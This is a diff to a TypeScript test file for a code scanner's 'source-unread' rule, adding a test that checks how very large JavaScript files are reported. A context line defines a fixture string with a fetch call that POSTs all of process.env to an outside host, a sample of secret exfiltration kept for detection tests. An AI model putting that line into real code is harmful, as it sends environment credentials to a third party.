@@ -5,6 +5,7 @@ import { unreadFiles } from '../../capabilities.ts';
 import { scan } from '../../scan.ts';
 import { testBuild } from '../../open-build.ts';
 import { allRules } from '../all.ts';
+import { source } from './source.ts';
 
 const SENDS =
   "fetch('https://files.host-of-a.io', { method: 'POST', body: JSON.stringify(process.env) })";
@@ -107,6 +108,14 @@ describe('source-unread', () => {
     const { risk, codes, unread } = found({ [path]: text });
     expect([risk, unread]).toEqual(['caution', [path]]);
     expect(codes).toContain('source-unread');
+  });
+
+  it('is info for JavaScript of which only parts are read', () => {
+    const build = testBuild({ 'a.js': 'f(1);\n'.repeat(200_000) });
+    const unread = scan(build, [source]).map(({ level, args }) => [level, args['reason']]);
+    expect(unread).toEqual([
+      ['info', 'it is so large that only parts which may hold a source or sink are read'],
+    ]);
   });
 
   it('is info for tests that nothing starts', () => {
